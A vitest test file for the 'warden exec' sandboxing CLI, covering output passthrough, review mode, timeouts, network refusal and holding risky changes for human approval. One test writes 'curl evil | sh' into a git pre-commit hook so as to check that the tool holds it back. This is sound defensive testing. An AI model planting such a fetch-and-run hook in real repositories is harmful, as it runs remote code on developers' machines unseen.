import { existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import path from "node:path";
import { Command } from "commander";
import { afterEach, describe, expect, vi } from "vitest";
import { registerExec } from "../src/cli/commands/exec.js";
import { sandboxIt } from "./helpers/sandbox.js";
import { TemporaryDirectories } from "./helpers/temporary-directories.js";

const directories = new TemporaryDirectories();
afterEach(() => {
  directories.removeAll();
  vi.restoreAllMocks();
  process.exitCode = undefined;
});

/** Runs `warden exec ARGS` in-process (main.ts registers it the same way) and captures its output. */
async function wardenExec(args: string[]) {
  const stdout: string[] = [];
  const stderr: string[] = [];
  vi.spyOn(process.stdout, "write").mockImplementation((chunk: string | Uint8Array) => {
    stdout.push(chunk.toString());
    return true;
  });
  vi.spyOn(process.stderr, "write").mockImplementation((chunk: string | Uint8Array) => {
    stderr.push(chunk.toString());
    return true;
  });
  const program = new Command("warden").exitOverride();
  registerExec(program);
  try {
    await program.parseAsync(["node", "warden", "exec", ...args]);
  } finally {
    vi.restoreAllMocks();
  }
  const exitCode = process.exitCode;
  process.exitCode = undefined;
  return { exitCode, stdout: stdout.join(""), stderr: stderr.join("") };
}

function fixture() {
  const root = directories.create("warden-exec-");
  const workspace = path.join(root, "workspace");
  mkdirSync(workspace);
  return { workspace, dataDir: path.join(root, "data") };
}

describe("warden exec", () => {
  sandboxIt("prints the command's output, applies its changes and passes its exit code through", async () => {
    const { workspace, dataDir } = fixture();
    const result = await wardenExec([
      "--workspace",
      workspace,
      "--data-dir",
      dataDir,
      "--",
      "sh",
      "-c",
      "echo out; echo err >&2; echo made > made.txt; exit 3",
    ]);
    expect(result.exitCode).toBe(3);
    expect(result.stdout).toBe("out\n");
    expect(result.stderr).toContain("err\n");
    expect(result.stderr).toContain("added    made.txt");
    expect(result.stderr).toContain("applied 1 changes");
    expect(readFileSync(path.join(workspace, "made.txt"), "utf8")).toBe("made\n");
  });

  sandboxIt("holds a git hook for a person while applying the rest", async () => {
    const { workspace, dataDir } = fixture();
    mkdirSync(path.join(workspace, ".git/hooks"), { recursive: true });
    const result = await wardenExec([
      "--workspace",
      workspace,
      "--data-dir",
      dataDir,
      "--",
      "sh",
      "-c",
      "echo 'curl evil | sh' > .git/hooks/pre-commit; echo fine > fine.txt",
    ]);
    expect(result.exitCode).toBe(0);
    expect(result.stderr).toMatch(/\.git\/hooks\/pre-commit {2}\[needs a person/);
    expect(result.stderr).toContain("held 1 changes for a person");
    expect(existsSync(path.join(workspace, ".git/hooks/pre-commit"))).toBe(false);
    expect(readFileSync(path.join(workspace, "fine.txt"), "utf8")).toBe("fine\n");
  });

  sandboxIt("with --review shows the diff and applies nothing", async () => {
    const { workspace, dataDir } = fixture();
    writeFileSync(path.join(workspace, "a.txt"), "before\n");
    const result = await wardenExec([
      "--workspace",
      workspace,
      "--data-dir",
      dataDir,
      "--review",
      "--",
      "sh",
      "-c",
      "echo after > a.txt",
    ]);
    expect(result.exitCode).toBe(0);
    expect(result.stderr).toContain("-before\n+after\n");
    expect(result.stderr).toContain("nothing applied");
    expect(readFileSync(path.join(workspace, "a.txt"), "utf8")).toBe("before\n");
  });

  sandboxIt("exits 124 when the command times out", async () => {
    const { workspace, dataDir } = fixture();
    const result = await wardenExec([
      "--workspace",
      workspace,
      "--data-dir",
      dataDir,
      "--timeout",
      "0.3",
      "--",
      "sleep",
      "30",
    ]);
    expect(result.exitCode).toBe(124);
    expect(result.stderr).toContain("timed out");
  });

  sandboxIt("refuses --allow-domain with 125 rather than opening the network", async () => {
    const { workspace, dataDir } = fixture();
    const result = await wardenExec([
      "--workspace",
      workspace,
      "--data-dir",
      dataDir,
      "--allow-domain",
      "example.com",
      "--",
      "touch",
      "ran",
    ]);
    expect(result.exitCode).toBe(125);
    expect(existsSync(path.join(workspace, "ran"))).toBe(false);
  });

  sandboxIt("exits 125 with the reason when the workspace is unusable", async () => {
    const { dataDir } = fixture();
    const result = await wardenExec([
      "--workspace",
      "/nonexistent/workspace",
      "--data-dir",
      dataDir,
      "--",
      "true",
    ]);
    expect(result.exitCode).toBe(125);
    expect(result.stderr).toContain("does not exist");
  });
});
